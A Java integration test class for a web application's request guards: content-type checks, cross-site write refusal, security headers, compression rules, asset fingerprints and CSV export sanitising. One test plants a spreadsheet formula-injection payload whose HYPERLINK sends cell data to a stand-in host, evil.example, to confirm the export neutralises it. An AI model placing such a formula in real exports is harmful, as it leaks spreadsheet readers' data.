package org.liaison.web.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.liaison.web.it.ApiFixture.HOME_HOSPITAL;
import static org.liaison.web.it.ApiFixture.assertForbidden;
import static org.liaison.web.it.ApiFixture.assertProblem;
import static org.liaison.web.it.ApiFixture.id;
import static org.liaison.web.it.ApiFixture.newAgency;
import static org.liaison.web.it.ApiFixture.ok;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.liaison.web.it.Http.Client;
import org.liaison.web.it.Http.Reply;

/**
 * What reaches the API at all: only the content types an endpoint documents (a cross-site form cannot post), no
 * write from another site, no server description on OPTIONS, and a directory export that a
 * spreadsheet cannot turn against its reader.
 */
class RequestGuardIT extends ApiTest {

    @Test
    void bodiesAFormCanSendAreRefusedWith415() {
        Client manager = demo.as("manager");
        String csv = "agency,firstName,lastName\n" + ApiFixture.PARTNER_AGENCY + ",Form,Posted\n";
        for (String type : List.of("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                "TEXT/PLAIN; charset=UTF-8")) {
            assertProblem(415, manager.sendRaw("POST", "/api/contacts/import", type, bytes(csv)));
            assertProblem(415, manager.sendRaw("POST", "/api/agencies", type, bytes("{}")));
        }
        JsonObject contacts = ok(manager.get("/api/contacts?name=Posted"));
        assertEquals(0, contacts.getInt("total"), "nothing was imported");
    }

    @Test
    void blankGarbledOrUndocumentedContentTypesAnswer415AsProblems() {
        Client manager = demo.as("manager");
        for (String type : List.of("", "json", "application/xml", "text/csv")) {
            assertProblem(415, manager.sendRaw("POST", "/api/agencies", type, bytes("{}")));
        }
        assertProblem(415, manager.sendRaw("POST", "/api/notifications/1/read", "text/plain", bytes("x")));
    }

    /**
     * A page's form with a file over the container's limit goes back to the page it posted to, marked for the layout
     * to say why (the browser story in SharingIT reads that notice); a multipart body that cannot be read is a 400.
     */
    @Test
    void aPageUploadOverTheServersLimitGoesBackToItsPageAndAnUnreadableOneIs400() {
        Client anonymous = demo.http.anonymous();
        String boundary = "----liaison";
        byte[] huge = new byte[13 * 1024 * 1024];
        byte[] head = bytes("--" + boundary + "\r\nContent-Disposition: form-data; name=\"f\"; filename=\"scan.pdf\"\r\n"
                + "Content-Type: application/pdf\r\n\r\n");
        System.arraycopy(head, 0, huge, 0, head.length);
        String type = "multipart/form-data; boundary=" + boundary;
        Reply back = anonymous.sendRaw("POST", "/login?continue=%2Fagencies%2F", type, huge);
        assertEquals(303, back.status(), back.toString());
        assertEquals("/liaison/login?continue=%2Fagencies%2F&upload=too-large", back.header("Location").orElse(""));
        Reply again = anonymous.sendRaw("POST", "/login?upload=too-large", type, huge);
        assertEquals("/liaison/login?upload=too-large", again.header("Location").orElse(""), again.toString());
        Reply unreadable = anonymous.sendRaw("POST", "/login", type,
                bytes("--" + boundary + "\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nno closing line"));
        assertEquals(400, unreadable.status(), unreadable.toString());
    }

    @Test
    void writesFromAnotherSiteAreRefusedButTheSameOriginAndScriptsPass() {
        Client manager = demo.as("manager");
        long home = demo.facilityId(HOME_HOSPITAL);
        byte[] body = bytes(ApiFixture.agencyBody(home).build().toString());
        assertForbidden(manager.sendRaw("POST", "/api/agencies", "application/json", body,
                "Sec-Fetch-Site", "cross-site"));
        assertForbidden(manager.sendRaw("POST", "/api/agencies", "application/json", body,
                "Origin", "https://evil.example"));
        assertForbidden(manager.sendRaw("POST", "/api/notifications/1/read", null, null,
                "Sec-Fetch-Site", "same-site"));
        assertEquals(201, manager.sendRaw("POST", "/api/agencies", "application/json", body,
                "Sec-Fetch-Site", "same-origin").status());
        assertEquals(201, manager.sendRaw("POST", "/api/agencies", "application/json",
                bytes(ApiFixture.agencyBody(home).build().toString())).status(), "a script sends no Origin");
        assertEquals(200, manager.get("/api/agencies?limit=1", "Sec-Fetch-Site", "cross-site").status(),
                "reads are not writes");
    }

    /**
     * Outside /liaison, Payara's root module answers (its /health stays there); the server-root guard gives it the
     * security headers, sends the bare host name on to Liaison, and replaces Payara's "Error report" page.
     */
    @Test
    void theServerRootCarriesTheSecurityHeadersAndNamesNoServer() {
        Client anonymous = demo.http.anonymous();
        Reply root = anonymous.getRoot("/");
        assertEquals(302, root.status(), root.toString());
        assertTrue(root.header("Location").orElse("").endsWith("/liaison/"), root.toString());
        Reply missing = anonymous.getRoot("/no/such/page");
        assertEquals(404, missing.status(), missing.toString());
        assertTrue(missing.body().contains("Not found"), missing.toString());
        Reply health = anonymous.getRoot("/health/ready");
        assertEquals(200, health.status(), "health stays open for probes: " + health);
        for (Reply reply : List.of(root, missing, health)) {
            assertEquals("nosniff", reply.header("X-Content-Type-Options").orElse(""), reply.toString());
            assertTrue(reply.header("Content-Security-Policy").orElse("").contains("default-src 'none'"),
                    reply.toString());
            assertFalse(reply.body().contains("Payara") || reply.body().contains("Error report"), reply.toString());
        }
    }

    /** (That /metrics is closed in production is PrebootTest's: the test server opens it to count statements.) */
    /**
     * A phone on patrol downloads about 2.4 MB of scripts and styles on its first visit: they go out compressed, and
     * caches keep the two forms apart. Pages and API answers are never compressed, since they carry secrets beside
     * text a caller chose (BREACH), even when the client asks.
     */
    @Test
    void scriptsAndStylesGoOutCompressedButPagesAndApiAnswersDoNot() {
        Client anonymous = demo.http.anonymous();
        for (String resource : List.of("/jakarta.faces.resource/core.js.xhtml?ln=primefaces",
                "/jakarta.faces.resource/components.css.xhtml?ln=primefaces",
                "/jakarta.faces.resource/liaison.css.xhtml?ln=liaison")) {
            Reply compressed = anonymous.get(resource, "Accept-Encoding", "gzip");
            assertEquals(200, compressed.status(), compressed.toString());
            assertEquals("gzip", compressed.header("Content-Encoding").orElse(""), compressed.toString());
            assertTrue(compressed.header("Vary").orElse("").contains("Accept-Encoding"), compressed.toString());
            Reply plain = anonymous.get(resource);
            assertEquals(200, plain.status(), plain.toString());
            assertTrue(plain.header("Content-Encoding").isEmpty(), "plain to a client that did not ask: " + plain);
            assertTrue(plain.body().length() > 1024 && plain.body().contains("{"), plain.toString());
        }
        Reply page = anonymous.get("/login", "Accept-Encoding", "gzip");
        assertEquals(200, page.status(), page.toString());
        assertTrue(page.body().contains("jakarta.faces.ViewState"), "the page, in plain text: " + page);
        Reply list = demo.as("manager").get("/api/agencies?limit=50", "Accept-Encoding", "gzip");
        assertEquals(200, list.status(), list.toString());
        assertTrue(list.body().startsWith("{"), "the answer, in plain JSON: " + list);
        for (Reply reply : List.of(page, list)) {
            assertTrue(reply.header("Content-Encoding").isEmpty(), reply.toString());
            assertEquals("no-store", reply.header("Cache-Control").orElse(""), reply.toString());
        }
    }

    /**
     * Our own scripts, styles and theme are cached for a week, so their addresses carry their content's fingerprint:
     * an upgrade that changes one reaches every browser at once. PrimeFaces' files keep PrimeFaces' version.
     */
    @Test
    void ourScriptsAndStylesAreAddressedByTheirContentsFingerprint() throws Exception {
        Client anonymous = demo.http.anonymous();
        // the sign-in page links the styles; the script comes with the pages behind it
        String page = anonymous.get("/login").body()
                + demo.http.signedIn("officer", ApiFixture.PASSWORD).get("/who-to-call").body();
        for (String name : List.of("liaison.css.xhtml?ln=liaison", "liaison.js.xhtml?ln=liaison",
                "theme.css.xhtml?ln=primefaces-liaison")) {
            Matcher link = Pattern.compile("/liaison(/jakarta\\.faces\\.resource/" + Pattern.quote(name)
                    + "&(?:amp;)?v=([0-9a-f]{12}))\"").matcher(page);
            assertTrue(link.find(), name + " with one fingerprint in " + page);
            Reply served = anonymous.get(link.group(1).replace("&amp;", "&"));
            assertEquals(200, served.status(), served.toString());
            assertTrue(served.header("Cache-Control").orElse("").contains("max-age"), served.toString());
            byte[] digest = MessageDigest.getInstance("SHA-256").digest(served.body().getBytes(StandardCharsets.UTF_8));
            assertEquals(HexFormat.of().formatHex(digest).substring(0, 12), link.group(2),
                    "the fingerprint is the served content's: " + name);
        }
        assertTrue(Pattern.compile("core\\.js\\.xhtml\\?ln=primefaces&(amp;)?v=15\\.").matcher(page).find(),
                "PrimeFaces keeps its own version: " + page);
    }

    @Test
    void optionsDescribesNothing() {
        Reply options = demo.as("manager").sendRaw("OPTIONS", "/api/agencies", null, null);
        assertFalse(options.body().contains("wadl") || options.body().toLowerCase().contains("jersey"),
                options.toString());
        assertEquals(200, demo.http.anonymous().getRoot("/health/ready").status(), "health stays open for probes");
    }

    @Test
    void theDirectoryExportNeutralisesSpreadsheetFormulasButKeepsTheValue() {
        Client manager = demo.as("manager");
        JsonObject agency = newAgency(manager, demo.facilityId(HOME_HOSPITAL));
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")";
        Reply created = manager.post("/api/contacts", Json.createObjectBuilder().add("agencyId", id(agency))
                .add("firstName", "Formula").add("lastName", "Test" + ApiFixture.unique()).add("unit", formula)
                .add("notes", "@SUM(1+1)").build());
        assertEquals(201, created.status(), created.toString());
        assertEquals(formula, ok(manager.get("/api/contacts/" + id(created.json()))).getString("unit"),
                "stored as typed");
        Reply export = manager.get("/api/contacts/export");
        assertEquals(200, export.status());
        String line = export.body().lines().filter(l -> l.contains(created.json().getString("lastName")))
                .findFirst().orElseThrow();
        assertTrue(line.contains("\"'=HYPERLINK("), line);
        assertTrue(line.contains("'@SUM(1+1)"), line);
        assertFalse(line.matches(".*(^|,)\"?[=@+-].*"), line);
    }

    @Test
    void aSignInFormPostedWithoutThePagesNonceIsABadRequestNotAServerError() {
        Client browser = demo.http.browser(); // keeps the session, so only the missing nonce is wrong
        Reply form = browser.send("GET", demo.http.app("/login"), null, java.util.Map.of());
        java.util.Map<String, String> fields = Http.hiddenFields(form.body());
        fields.put("login:username", "manager");
        fields.put("login:password", "not-the-password");
        Reply posted = browser.sendForm(demo.http.app("/login"), fields);
        assertEquals(400, posted.status(), posted.toString());
        assertFalse(posted.body().contains("Exception"), posted.toString());
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
